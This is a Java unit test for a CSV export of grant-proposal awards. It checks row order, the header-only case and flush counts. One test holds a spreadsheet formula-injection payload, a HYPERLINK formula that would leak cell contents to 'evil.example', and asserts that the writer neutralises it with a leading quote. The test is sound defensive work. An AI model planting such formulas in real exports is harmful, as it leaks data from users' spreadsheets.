package org.convoca.outcome;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.FilterWriter;
import java.io.IOException;
import java.io.StringWriter;
import java.io.Writer;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import org.convoca.assessment.Assessment;
import org.convoca.assessment.AwardFinding;
import org.convoca.assessment.CriterionResult;
import org.junit.jupiter.api.Test;

class OutcomeAwardsCsvTest {

  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"details\")";

  private final CallOutcome outcome = OutcomeFixtures.workedExampleOutcome();

  @Test
  void writesOneRowPerAwardByProposalThenCriterion() throws Exception {
    List<Map<String, String>> rows = rows(awardsCsv(outcome));

    long awards = outcome.proposals().stream().flatMap(p -> p.assessment().trail().stream())
        .filter(AwardFinding.class::isInstance).count();
    assertThat(rows).hasSize((int) awards);
    assertThat(rows.get(0)).containsExactly(Map.entry("proposal", "P-01"), Map.entry("criterion", "cocreation"),
        Map.entry("rule", "Points set by the test"), Map.entry("points", "5"), Map.entry("sentence", "The test sets them."));
    assertThat(rows.get(1)).containsEntry("proposal", "P-01").containsEntry("criterion", "quality");
    assertThat(rows.get(2)).containsEntry("proposal", "P-02");
  }

  @Test
  void quotesTextThatMakesAFormulaAndLeavesThePointsAlone() throws Exception {
    List<Map<String, String>> rows = rows(awardsCsv(withAwardsBy(FORMULA, "@SUM(1+1)")));

    assertThat(rows).isNotEmpty().allSatisfy(row -> {
      assertThat(row).containsEntry("rule", "'" + FORMULA).containsEntry("sentence", "'@SUM(1+1)");
      assertThat(new BigDecimal(row.get("points"))).isNotNegative();
    });
  }

  @Test
  void writesTheHeaderAloneWhenNoRuleAwardedAnything() {
    assertThat(awardsCsv(withoutAwards())).isEqualTo("proposal,criterion,rule,points,sentence\n");
  }

  @Test
  void flushesWhereItIsWrittenOnceAtTheEndNotAfterEachRow() {
    int[] flushes = new int[2];
    StringWriter awards = new StringWriter();
    StringWriter proposals = new StringWriter();
    OutcomeWriters.awardsCsv(outcome, countingFlushes(awards, flushes, 0));
    OutcomeWriters.csv(outcome, countingFlushes(proposals, flushes, 1));

    assertThat(rows(awards.toString())).hasSizeGreaterThan(10);
    assertThat(flushes[0]).as("flushes of the awards CSV").isBetween(1, 2);
    assertThat(flushes[1]).as("flushes of the proposals' CSV").isBetween(1, 2);
  }

  /** {@code out}, counting each flush in {@code flushes[at]}: a flush of a file's writer is a system call. */
  private static Writer countingFlushes(Writer out, int[] flushes, int at) {
    return new FilterWriter(out) {
      @Override
      public void flush() throws IOException {
        flushes[at]++;
        super.flush();
      }
    };
  }

  /** The worked example with every award given by {@code rule} with {@code sentence}. */
  private CallOutcome withAwardsBy(String rule, String sentence) {
    return withCriteria(c -> new CriterionResult(c.criterion(), c.rawPoints(), c.points(), c.maxPoints(), c.weight(),
        c.weighted(), c.threshold(), c.meetsThreshold(), c.awards().stream()
            .map(a -> new AwardFinding(a.proposal(), a.criterion(), rule, a.points(), sentence)).toList()));
  }

  private CallOutcome withoutAwards() {
    return withCriteria(c -> new CriterionResult(c.criterion(), c.rawPoints(), c.points(), c.maxPoints(), c.weight(),
        c.weighted(), c.threshold(), c.meetsThreshold(), List.of()));
  }

  private CallOutcome withCriteria(java.util.function.UnaryOperator<CriterionResult> change) {
    List<ProposalOutcome> proposals = outcome.proposals().stream().map(p -> {
      Assessment a = p.assessment();
      Assessment changed = new Assessment(a.proposalId(), a.eligible(), a.checks(),
          a.criteria().stream().map(change).toList(), a.total(), a.overallThreshold(), a.meetsOverallThreshold(),
          a.labels());
      return new ProposalOutcome(p.proposal(), p.applicant(), changed, p.rank(), p.decision(), p.waitlistPosition(),
          p.tracks(), p.theme(), p.jury());
    }).toList();
    return new CallOutcome(outcome.call(), outcome.fingerprint(), proposals, outcome.selection(), outcome.placements(),
        outcome.summary(), outcome.jury(), outcome.producedBy(), outcome.ruleTitles());
  }

  private static String awardsCsv(CallOutcome outcome) {
    StringWriter out = new StringWriter();
    OutcomeWriters.awardsCsv(outcome, out);
    return out.toString();
  }

  private static List<Map<String, String>> rows(String csv) {
    try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
        .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
      return it.readAll();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
